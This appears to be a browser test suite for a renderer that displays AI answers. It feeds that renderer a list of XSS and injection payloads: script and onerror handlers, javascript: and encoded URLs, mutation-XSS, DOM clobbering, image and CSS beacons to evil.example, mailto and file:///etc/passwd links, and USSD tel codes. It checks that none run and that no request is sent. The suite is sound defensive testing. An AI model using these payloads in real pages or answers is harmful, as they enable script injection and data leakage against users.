import { expect } from 'chai';
import { frame, wait } from '../support/browser.js';
import { fc } from '../support/properties.js';
import { shown } from './support.js';
import { shortest } from '../support/shortest.js';

/** Quadratic time would be minutes; a busy machine may need a second try. */
const SOON = 5000;

declare global {
  var landed: string[];
}

const BAD = 'globalThis.landed.push(1)';
const HOST = 'https://evil.example';

/** Each would run a script, send a request or lead astray, if it were let. */
const ATTACKS = [
  `<script>${BAD}</script>`,
  `<img src=x onerror="${BAD}">`,
  `<svg onload="${BAD}"><script>${BAD}</script></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${BAD}&gt;">`,
  `<details open ontoggle="${BAD}">x</details>`,
  `<details open ontoggle="${BAD}" style="position:fixed">\n<summary onclick="${BAD}" id=x>a <img src=x onerror="${BAD}"></summary>\n\n<script>${BAD}</script>\n\n</details>`,
  `<iframe srcdoc="<script>parent.landed.push(1)</script>"></iframe>`,
  `<iframe src="javascript:parent.landed.push(1)"></iframe>`,
  `<object data="${HOST}/o"></object><embed src="${HOST}/e">`,
  `<form action="${HOST}/f"><button>x</button><input autofocus onfocus="${BAD}"></form>`,
  `<style>* { background: url(${HOST}/c) }</style>`,
  `<link rel=stylesheet href="${HOST}/l"><base href="${HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${HOST}/m">`,
  `<p style="background:url(${HOST}/s);position:fixed;inset:0">x</p>`,
  `<video src="${HOST}/v" poster="${HOST}/p" autoplay></video><audio src="${HOST}/a">`,
  `<picture><source srcset="${HOST}/q"><img src="${HOST}/r"></picture>`,
  `<img src="${HOST}/i.png"><input type=image src="${HOST}/j.png">`,
  `<a href="javascript:${BAD}">x</a>`,
  `<a href="&#106;avascript:${BAD}">x</a>`,
  `<a href="https://bank.example@evil.example/">x</a>`,
  `<a href="data:text/html,<script>${BAD}</script>">x</a>`,
  `<table background="${HOST}/t"><td background="${HOST}/u">x</table>`,
  `<citation-anchor source-ids="1"></citation-anchor><citation-block payload="{}"></citation-block>`,
  `<form name=attributes><input name=parentNode></form><img name=body id=document>`,
  `[x](javascript:${BAD})`,
  `[x](&#x6A;avascript:${BAD})`,
  `[x](java\tscript:${BAD})`,
  `[x](vbscript:x)`,
  `[x](mailto:a@b.example?bcc=c@evil.example&body=x&attach=/etc/passwd)`,
  `[x](mailto:a@b.example%0d%0abcc:c@evil.example)`,
  `<a href="mailto:a@b.example,c@evil.example">x</a>`,
  `[x](tel:*%2306%23) [y](tel:**21*0900%23) [z](tel:+1;ext=2)`,
  `[x](sms:+15550100?body=x) [y](facetime:a@b.example) [z](ms-word:ofe|u|${HOST}/x)`,
  `[x](//evil.example@bank.example/) [y](/\\evil.example) [z](../../x)`,
  `[x](file:///etc/passwd)`,
  `[x]: javascript:${BAD}\n\n[x]`,
  `<javascript:${BAD}>`,
  `![x](${HOST}/md.png)`,
  `![x][y]\n\n[y]: ${HOST}/ref.png`,
  `![x](javascript:${BAD})`,
  `\`\`\`"><img src=x onerror=${BAD}>\nx\n\`\`\``,
  `$<img src=x onerror=${BAD}>$`,
  `[^<img src=x onerror=${BAD}>]`,
  `| <img src=x onerror=${BAD}> |\n|---|\n| <script>${BAD}</script> |`,
  `- [ ] <img src=x onerror=${BAD}>`,
  `[a](https://a.example "\\" onmouseover=${BAD}")`,
];

const FORBIDDEN =
  'script,style,iframe,object,embed,form,button,textarea,select,link,base,meta,svg,math,video,audio,picture,source,img,citation-anchor,citation-block,[style],[id],[name],[class],[background],[srcset]';

const WEB = /^https?:\/\/[^@/]+(?:\/|$)/;
/** One person and nothing else: neither what to write nor whom to copy, and no code for a phone. */
const ADDRESSEE = /^(?:mailto:[\w.+-]+@[a-z\d.-]+|tel:\+?\d+)$/i;

/** What is wrong with an answer that is shown, if anything is. */
function problems(root: HTMLElement): string[] {
  const found = Array.from(root.querySelectorAll(FORBIDDEN), ({ outerHTML }) => outerHTML);
  for (const element of root.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (name.startsWith('on')) found.push(name);
      if (name === 'href' && !WEB.test(value) && !ADDRESSEE.test(value)) found.push(value);
      if (name === 'src') found.push(value);
    }
    if (element.matches('a[href^=http]:not([rel="noopener noreferrer"][target="_blank"])')) {
      found.push(element.outerHTML);
    }
    if (element.localName === 'input' && !element.matches('[type=checkbox][disabled]')) {
      found.push(element.outerHTML);
    }
  }
  return found;
}

describe('hostile answers', () => {
  let root: HTMLElement;
  const expectSoon = (show: () => void): void => {
    const anew = (): void => {
      root.replaceChildren();
      show();
    };
    expect(shortest(anew, SOON)).to.be.below(SOON);
  };

  beforeEach(() => {
    globalThis.landed = [];
    root = document.createElement('div');
    root.className = 'fixture';
    document.body.append(root);
  });

  const isQuiet = async (): Promise<void> => {
    await frame();
    await wait(30);
    expect(globalThis.landed).to.deep.equal([]);
    const requests = performance.getEntriesByType('resource').map(({ name }) => name);
    expect(requests.filter((name) => name.includes('evil.example'))).to.deep.equal([]);
  };

  for (const attack of ATTACKS) {
    it(attack.slice(0, 60), async () => {
      const { show } = shown({}, root);
      for (let end = 1; end < attack.length; end++) show(attack.slice(0, end), true);
      show(attack);
      expect(problems(root)).to.deep.equal([]);
      await isQuiet();
    });
  }

  it('loads images only if it is asked to, and only from the web', () => {
    const { show } = shown({ images: true }, root);
    show('![a](data:image/png;base64,AAAA) ![b](javascript:x) <img src="blob:x" onerror="x">');
    expect(root.querySelectorAll('img')).to.have.length(0);
  });

  it('holds for any mixture', async () => {
    const parts = fc.array(
      fc.constantFrom(...ATTACKS, ' a ', '\n\n', '**', '`', '<', '>', '[', '](', '"'),
      {
        minLength: 1,
        maxLength: 6,
      },
    );
    fc.assert(
      fc.property(parts, fc.nat(), (given, cut) => {
        const answer = given.join('');
        const { show } = shown({}, root);
        root.replaceChildren();
        show(answer.slice(0, cut % (answer.length + 1)), true);
        expect(problems(root)).to.deep.equal([]);
        show(answer);
        expect(problems(root)).to.deep.equal([]);
      }),
      { numRuns: 500 },
    );
    await isQuiet();
  });

  for (const [part, count] of [
    ['>', 4000],
    ['- ', 4000],
    ['[', 16_000],
    ['*a ', 8000],
    ['**a ', 8000],
    ['_a\n', 8000],
    ['<b>', 4000],
    ['`a``', 4000],
    ['[a](', 4000],
    ['![a', 4000],
    ['$a ', 8000],
    ['<a ', 4000],
    ['|a', 4000],
    ['\\[', 8000],
    ['https://a.b/', 4000],
    ['[a]: b\n', 4000],
    ['!--', 20_000],
    ['<', 40_000],
    ['\\u', 20_000],
    ['a@b.c ', 2000],
    ['.~~a', 16_000],
    ['`cite', 40_000],
    ['> ', 40_000],
  ] as const) {
    it(`shows ${count} times ${JSON.stringify(part)}, and soon`, () => {
      expectSoon(() => {
        const { show } = shown({}, root);
        show(part.repeat(count), true);
        show(part.repeat(count));
      });
    }).timeout(60_000);
  }

  it('shows an item of 60,000 lines, and soon', () => {
    expectSoon(() => shown({}, root).show(`* a\n${'a\n'.repeat(60_000)}`));
    expect(root.textContent).to.have.length.above(60_000);
  }).timeout(60_000);

  it('shows a second paragraph of 3,000 lines in an item, and soon', () => {
    expectSoon(() => shown({}, root).show(`1. a\n\n   b\n${'c\n'.repeat(3000)}`));
    expect(root.textContent).to.have.length.above(6000);
  }).timeout(60_000);

  it('shows a list before a paragraph of 100 lines as a list', () => {
    shown({}, root).show(`- a\n- b\n\n${'some words of a line that goes on\n'.repeat(100)}`);
    expect(root.querySelectorAll('li')).to.have.length(2);
  });

  it('shows an address of 40,000 signs, and soon', () => {
    expectSoon(() => shown({}, root).show(`${'#'.repeat(40_000)}x@y.z`));
  }).timeout(60_000);

  it('shows a link with 200,000 signs behind it, and soon', () => {
    expectSoon(() => shown({}, root).show(`www.a.b/${'?,'.repeat(100_000)}`));
    expect(root.textContent).to.have.length.above(200_000);
  }).timeout(60_000);
});
